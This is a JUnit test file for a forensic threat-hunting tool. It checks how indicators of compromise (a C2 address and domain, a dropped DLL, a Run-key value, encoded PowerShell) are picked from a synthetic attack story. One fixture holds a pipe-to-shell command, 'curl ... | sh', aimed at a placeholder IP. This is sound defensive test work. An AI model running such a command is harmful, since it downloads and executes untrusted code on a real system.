package trailhound.access;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import trailhound.index.EventSort;
import trailhound.ingest.DataDir;
import trailhound.ingest.Ingestor;
import trailhound.query.IndicatorType;
import trailhound.query.IocTree;
import trailhound.query.QueryLanguage;
import trailhound.recorder.RecorderReader;
import trailhound.recorder.RecorderStory;
import trailhound.samples.SampleGenerator;

/**
 * The defaults of an evidence based IOC, on the sample attack story of WS-FIN-01 (fourth try-out of issue
 * #17): a process item brings its own history's distinctive indicators (the C2 domain and address, the DLL
 * it dropped, the value it wrote under the Run key, not the Run key itself); an event item ticks the command
 * line of a common image (powershell.exe) as README says; .NET's GAC_MSIL is a system path.
 */
class IocDefaultsTest {
    @TempDir static Path dir;
    static DataDir data;
    static Access access;
    static RecorderStory story;
    static final Caller CLI = Caller.commandLine();
    static final String C2 = "185.141.63.120";

    @BeforeAll
    static void ingest() throws Exception {
        data = DataDir.open(dir.resolve("data"));
        access = Access.over(data, Clock.systemUTC());
        for (Path db : SampleGenerator.generate(dir.resolve("samples"), 4, 24_000, 7, n -> {})) {
            new Ingestor(data, 1).ingest(db, null);
            if (db.getFileName().toString().startsWith("WS-FIN-01")) {
                try (RecorderReader r = RecorderReader.open(db)) {
                    story = r.stories().getFirst();
                }
            }
        }
        assertEquals("win-macro", story.storyId());
    }

    @AfterAll
    static void close() throws Exception {
        if (data != null) data.close();
    }

    /** The story's powershell.exe: it resolves and reaches the C2, drops the DLL and writes the Run value. */
    private static String powershell(Scope scope) throws Exception {
        for (String key : story.processKeys()) {
            List<String> paths = new ArrayList<>();
            try (var lease = scope.index("WS-FIN-01")) {
                lease.index().export(QueryLanguage.parse("process_key:\"" + key + "\" AND type:process AND operation:start"),
                        EventSort.NEWEST_FIRST, 1, e -> paths.add(e.get(trailhound.schema.Field.PROCESS_PATH)));
            }
            if (!paths.isEmpty() && paths.getFirst().endsWith("powershell.exe")) return key;
        }
        throw new AssertionError("no powershell.exe in the story");
    }

    private static Set<String> defaults(EvidenceIndicators.Offers offers) {
        return offers.defaults().stream().map(i -> i.type().id() + ":" + i.value()).collect(Collectors.toSet());
    }

    @Test
    void processItem_defaultsHoldItsHistorysC2DroppedDllAndRunValue_notTheRunKeyNorSystemLoads() throws Exception {
        Scope scope = access.scope(CLI);
        long id = scope.savedEvidence().saveProcess("WS-FIN-01", powershell(scope), null, List.of()).id();
        EvidenceIndicators.Offers offers = scope.intel().offers(List.of(id), Candidates.DEFAULT_PROCESS, true);
        List<IocTree.Item> items = offers.defaults();
        assertTrue(items.stream().anyMatch(i -> i.type() == IndicatorType.IP && i.value().equals(C2)), "the C2 address: " + items);
        assertTrue(items.stream().anyMatch(i -> i.type() == IndicatorType.DOMAIN && i.value().equals("cdn-update.azureedge-cloud.com")),
                "the C2 domain: " + items);
        assertTrue(items.stream().anyMatch(i -> i.type() == IndicatorType.FILE_PATH && i.value().endsWith("\\wmsync.dll")), "the dropped DLL: " + items);
        assertTrue(items.stream().anyMatch(i -> i.type() == IndicatorType.REGISTRY_DATA && i.value().contains("wmsync.dll")),
                "the value written under Run: " + items);
        assertTrue(items.stream().anyMatch(i -> i.type() == IndicatorType.COMMAND_LINE && i.value().contains("-enc")),
                "powershell.exe is common: its command line tells it apart: " + items);
        assertFalse(items.stream().anyMatch(i -> i.type() == IndicatorType.REGISTRY_KEY), "a Run key is every endpoint's: " + items);
        assertFalse(items.stream().anyMatch(i -> i.value().contains("GAC_MSIL") || i.value().endsWith("amsi.dll")), "system loads: " + items);
        for (EvidenceIndicators.Offer o : offers.offers()) {
            if (o.candidate().value().contains("GAC_MSIL") && o.candidate().type() == IndicatorType.FILE_PATH) {
                assertTrue(o.candidate().system() && o.common() && !o.byDefault(), "GAC_MSIL is a system path: " + o);
            }
            if (o.candidate().type() == IndicatorType.REGISTRY_KEY && o.candidate().value().endsWith("\\CurrentVersion\\Run")) {
                assertTrue(o.candidate().system() && !o.byDefault(), "offered, unticked: " + o);
            }
        }
        // the API takes the same, and asked for the command line alone, a process item gives only that (as before)
        IocTree tree = IocJson.read(scope.intel().fromEvidence("ps", List.of(id)).tree());
        assertEquals(offers.defaults(), tree.items());
        assertEquals(1, scope.intel().offers(List.of(id), java.util.EnumSet.of(Candidates.ProcessPart.COMMAND_LINE), false).defaults().size());
    }

    @Test
    void aSystemProgramsHash_isCommonAsItsPathIs_soALolbinsCommandLineIsTicked() {
        // fifth try-out: a LOLBin's hash was ticked (too few events to count as common), so its command line was not,
        // and the IOC found every use of curl; a file kept from a system folder is told apart by its hash
        String sha = "ab".repeat(32);
        java.util.Map<String, String> curl = java.util.Map.of("type", "process", "operation", "start", "process_path", "/usr/bin/curl",
                "hash_sha256", sha, "command_line", "curl -s http://198.51.100.7/x | sh");
        Candidates.Candidate hash = Candidates.defaults(curl, Candidates.DEFAULT_PROCESS).getFirst();
        assertEquals(IndicatorType.SHA256, hash.type());
        assertTrue(hash.system(), "the hash of /usr/bin/curl is every endpoint's: " + hash);
        assertEquals("the hash of a program in a system path", hash.systemLabel());
        assertTrue(Candidates.defaults(curl, Candidates.DEFAULT_PROCESS).stream().allMatch(Candidates.Candidate::system),
                "every image default is common, so the command line is ticked in their place");
        assertFalse(Candidates.defaults(java.util.Map.of("type", "process", "process_path", "/tmp/.x/curl", "hash_sha256", sha),
                Candidates.DEFAULT_PROCESS).getFirst().system(), "the same program elsewhere is not a system path's");
        assertFalse(Candidates.defaults(java.util.Map.of("type", "file", "operation", Candidates.KEPT_FILE, "file_path", "/usr/bin/ls",
                "hash_sha256", sha), Candidates.DEFAULT_PROCESS).getFirst().system(), "a kept file's own hash tells a trojaned ls apart");
    }

    @Test
    void eventItem_commonImagesCommandLineTicked_besideOtherDistinctiveValues() throws Exception {
        Scope scope = access.scope(CLI);
        String ps = powershell(scope);
        List<String> uids = new ArrayList<>();
        try (var lease = scope.index("WS-FIN-01")) {
            lease.index().export(QueryLanguage.parse("process_key:\"" + ps + "\" AND ((type:process AND operation:start) OR type:file)"),
                    EventSort.NEWEST_FIRST, 10, e -> uids.add(e.uid()));
        }
        long id = scope.savedEvidence().saveEvents("WS-FIN-01", uids, null, List.of()).id();
        Set<String> defaults = defaults(scope.intel().offers(List.of(id), Candidates.DEFAULT_PROCESS, false));
        assertTrue(defaults.stream().anyMatch(d -> d.startsWith("file_path:") && d.endsWith("\\wmsync.dll")), defaults.toString());
        assertTrue(defaults.stream().anyMatch(d -> d.startsWith("command_line:") && d.contains("-enc")),
                "the command line of a common image is ticked (README), though the item has a distinctive file: " + defaults);
    }

    @Test
    void systemPaths_includeDotNetAssembliesAndMicrosoftShared_autostartKeysAreKnown() {
        for (String p : List.of("C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System\\v4.0\\System.dll",
                "C:\\Windows\\assembly\\GAC_64\\x\\y.dll", "C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1\\VBE7.DLL",
                "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\OFFICE16\\MSO.DLL")) {
            assertTrue(Candidates.isSystemPath(p), p);
        }
        assertFalse(Candidates.isSystemPath("C:\\Users\\bob\\AppData\\Roaming\\Common Files\\microsoft shared\\x.dll"));
        for (String k : List.of("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
                "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run")) {
            assertTrue(Candidates.isAutostartKey(k), k);
        }
        assertFalse(Candidates.isAutostartKey("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil\\x"));
        Map<String, String> set = Map.of("type", "registry", "operation", "set_value", "registry_key",
                "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "registry_value_name", "Updater", "registry_value_data", "C:\\x\\u.exe");
        assertEquals(List.of("registry_data:C:\\x\\u.exe"), Candidates.defaults(set, Candidates.DEFAULT_PROCESS).stream()
                .map(Candidates.Candidate::key).toList());
    }
}
